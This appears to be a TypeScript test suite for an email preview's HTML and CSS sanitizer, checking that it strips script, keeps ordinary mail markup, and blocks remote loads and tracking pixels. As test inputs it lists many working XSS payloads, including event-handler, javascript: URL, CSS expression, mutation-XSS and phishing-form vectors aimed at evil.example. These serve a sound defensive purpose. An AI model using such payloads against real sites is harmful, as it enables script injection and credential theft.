/**
 * The preview's HTML and CSS sanitizer on hostile input: the classic XSS
 * vectors never survive, remote loads are removed unless allowed, tracking
 * pixels always are, and ordinary mail markup is kept.
 */
import { strict as assert } from 'node:assert';
import { describe, it } from 'node:test';
import { sanitizeCss } from '../../../src/mail/preview/css';
import { sanitizeMessageHtml } from '../../../src/mail/preview/sanitize';

const clean = (html: string, allowRemote = false) => sanitizeMessageHtml(html, { allowRemote, resolveCid: (id) => (id === 'logo@x' ? 'data:image/png;base64,iVBORw0KGgo=' : undefined) });

/** Nothing that can run: no script-bearing element or attribute, no script URL. */
function assertInert(html: string): void {
  assert.doesNotMatch(html, /<\s*(script|svg|math|iframe|object|embed|form|input|button|textarea|select|meta|base|link|frame|frameset|applet)\b/i, html);
  assert.doesNotMatch(html, /\son[a-z]+\s*=/i, html);
  assert.doesNotMatch(html, /javascript:|vbscript:|expression\s*\(|-moz-binding|behavior\s*:/i, html);
  assert.doesNotMatch(html, /href\s*=\s*"\s*data:/i, html);
}

describe('sanitizeMessageHtml: the classic XSS vectors', () => {
  const vectors: Array<[string, string]> = [
    ['<svg onload>', '<svg onload="alert(1)"><circle r="4"/></svg><p>after</p>'],
    ['<img src=x onerror>', '<img src=x onerror=alert(1)>'],
    ['<a href="javascript:">', '<a href="javascript:alert(1)">click</a>'],
    ['javascript: with entities and tabs', '<a href="jav&#x09;ascript&#58;alert(1)">click</a><a href=" JaVaScRiPt:alert(1)">2</a>'],
    ['<meta http-equiv=refresh>', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
    ['CSS expression()', '<div style="width: expression(alert(1))">x</div><style>p{width:expression(alert(1))}</style>'],
    ['CSS url(javascript:)', '<div style="background:url(javascript:alert(1))">x</div><style>p{background:url("javascript:alert(1)")}</style>'],
    ['CSS escapes hiding expression', '<div style="width:\\65 xpression(alert(1))">x</div>'],
    ['CSS comments splitting expression', '<style>p{width:expr/**/ession(alert(1))}</style>'],
    ['-moz-binding and behavior', '<style>p{-moz-binding:url(x.xml#x);behavior:url(x.htc)}</style>'],
    ['<base href>', '<base href="http://evil.example/"><a href="/login">x</a>'],
    ['<form>', '<form action="http://evil.example/"><input name="password"><button>Sign in</button><textarea>t</textarea><select><option>o</option></select></form>'],
    ['<iframe>, <object>, <embed>', '<iframe src="http://evil.example/"></iframe><object data="x.swf"></object><embed src="x.swf">'],
    ['<link rel=stylesheet>', '<link rel="stylesheet" href="http://evil.example/x.css">'],
    ['<script> in many forms', '<script>alert(1)</script><SCRIPT SRC=//evil.example/x.js></SCRIPT><scr<script>ipt>alert(1)</script>'],
    ['style element breakout', '<style>a{}</style ><img src=x onerror=alert(1)><style></style>'],
    ['mXSS through noscript', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
    ['mXSS through math/style', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>'],
    ['data: link', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
    ['event handlers on allowed tags', '<p onclick="x()" onmouseover="y()">p</p><table background="javascript:alert(1)"><tr><td onload="z">c</td></tr></table>'],
  ];
  for (const [name, html] of vectors) {
    it(`${name} leaves nothing that runs`, () => {
      assertInert(clean(html).html);
      assertInert(clean(html, true).html);
    });
  }

  it('keeps the text around removed elements (a form reads as text, not controls)', () => {
    const out = clean('<form><p>Sign in below</p><input value="x"></form>').html;
    assert.equal(out, '<p>Sign in below</p>');
  });

  it('keeps ordinary mail markup: tables, inline styles, fonts, links', () => {
    const html = '<table width="600" cellpadding="4" bgcolor="#eeeeee"><tr><td align="center" style="color:#333;font-size:14px"><font face="Arial">Hi</font> <a href="https://example.org/x">link</a></td></tr></table>';
    assert.equal(clean(html).html, html);
  });

  it('drops protocol-relative and scriptless-but-dangerous link targets, keeps mailto', () => {
    const out = clean('<a href="//evil.example/">a</a><a href="mailto:bob@example.org">b</a>').html;
    assert.equal(out, '<a>a</a><a href="mailto:bob@example.org">b</a>');
  });
});

describe('sanitizeMessageHtml: remote content and tracking pixels', () => {
  it('removes remote images by default and counts them', () => {
    const r = clean('<img src="https://images.example/banner.png" width="300" alt="banner">');
    assert.equal(r.html, '<img width="300" alt="banner" class="smtp-eml-remote-blocked" />');
    assert.equal(r.remoteBlocked, 1);
  });

  it('keeps remote images when allowed', () => {
    const r = clean('<img src="https://images.example/banner.png" width="300">', true);
    assert.match(r.html, /src="https:\/\/images\.example\/banner\.png"/);
    assert.equal(r.remoteBlocked, 0);
  });

  it('blocks tracking pixels even when remote content is allowed (1x1, 0x0, hidden)', () => {
    for (const img of [
      '<img src="https://t.example/o.gif" width="1" height="1">',
      '<img src="https://t.example/o.gif" width="0" height="0">',
      '<img src="https://t.example/o.gif" style="width:1px;height:1px">',
      '<img src="https://t.example/o.gif" style="display:none">',
    ]) {
      const r = clean(img, true);
      assert.doesNotMatch(r.html, /t\.example/, img);
      assert.equal(r.trackersBlocked, 1, img);
    }
  });

  it('removes remote CSS loads (url(), @import, image-set) unless allowed', () => {
    const r = clean('<style>@import url(https://x.example/a.css); body{background:url(https://x.example/bg.png)} p{background-image:image-set("https://x.example/a.png" 1x)}</style><div style="background:url(\'http://x.example/d.png\')">d</div><td background="https://x.example/t.png">t</td>');
    assert.doesNotMatch(r.html, /x\.example/);
    assert.ok(r.remoteBlocked >= 3, `counted ${r.remoteBlocked}`);
    const allowed = clean('<div style="background:url(https://x.example/bg.png)">d</div>', true);
    assert.match(allowed.html, /url\(&quot;https:\/\/x\.example\/bg\.png&quot;\)/);
  });
});

describe('sanitizeMessageHtml: cid: references (RFC 2392)', () => {
  it('resolves cid: images to data: URIs and drops unknown ones', () => {
    const r = clean('<img src="cid:logo@x"><img src="cid:missing@x">');
    assert.equal(r.html, '<img src="data:image/png;base64,iVBORw0KGgo=" /><img />');
  });
  it('resolves cid: in CSS and background attributes', () => {
    const r = clean('<div style="background:url(cid:logo@x)">a</div><table background="cid:logo@x"><tr><td>b</td></tr></table>');
    assert.match(r.html, /style="background:url\(&quot;data:image\/png;base64,iVBORw0KGgo=&quot;\)"/);
    assert.match(r.html, /background="data:image\/png;base64,iVBORw0KGgo="/);
  });
});

describe('sanitizeCss', () => {
  const policy = () => ({ allowRemote: false, resolveCid: () => undefined, remoteBlocked: 0 });
  it('keeps ordinary CSS as written', () => {
    assert.equal(sanitizeCss('p { color: #333; margin: 0 auto } @media (max-width: 600px) { td { display: block } }', policy()), 'p { color: #333; margin: 0 auto } @media (max-width: 600px) { td { display: block } }');
  });
  it('removes "<" so a style element cannot be closed from inside', () => {
    assert.doesNotMatch(sanitizeCss('a{}</style><script>alert(1)</script>', policy()), /</);
  });
  it('keeps data: images in url()', () => {
    assert.equal(sanitizeCss('a{background:url(data:image/png;base64,AAAA)}', policy()), 'a{background:url("data:image/png;base64,AAAA")}');
  });
});
